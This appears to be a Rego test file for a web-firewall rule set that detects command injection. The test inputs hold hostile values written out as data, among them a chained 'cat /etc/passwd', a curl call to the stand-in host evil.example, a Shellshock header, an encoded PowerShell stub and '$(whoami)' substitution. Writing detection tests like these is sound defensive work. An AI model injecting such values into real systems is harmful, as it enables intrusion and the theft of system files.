package lambda_firewall.injection_test.rce

import data.lambda_firewall
import data.lambda_firewall.testing as t

fires(id, inp) if {
	ids := {f.id | some f in lambda_firewall.injection_findings} with input as inp
	id in ids
}

test_rce_001_chained_command if fires("rce-001", t.query("host", "127.0.0.1; cat /etc/passwd"))

test_rce_001_quoted_command if fires("rce-001", t.form_body({"code": [`;'curl' http://evil.example`]}))

test_rce_001_sh_c if fires("rce-001", t.json_body({"cmd": "bash -c 'id'"}))

test_rce_002_powershell if fires("rce-002", t.query("x", "powershell -enc AAAA"))

test_rce_002_batch_if if fires("rce-002", t.query("x", "IF %ERRORLEVEL% NEQ 0 echo test"))

test_rce_003_shellshock if fires("rce-003", t.header("referer", "() { :; }; /bin/sh -c id"))

test_rce_004_glob_evasion if fires("rce-004", t.query("f", "/etc/pa[s]swd"))

test_rce_004_command_substitution if fires("rce-004", t.query("f", "$(whoami)"))

test_rce_prose_is_clean if {
	inp := t.json_body({"note": "Tom & Jerry; set the table, find the keys -- then cat naps."})
	not fires("rce-001", inp)
	not fires("rce-002", inp)
	not fires("rce-004", inp)
}

test_rce_search_words_are_clean if {
	not fires("rce-001", t.query("q", "cat toys"))
	not fires("rce-002", t.query("q", "if you can"))
}
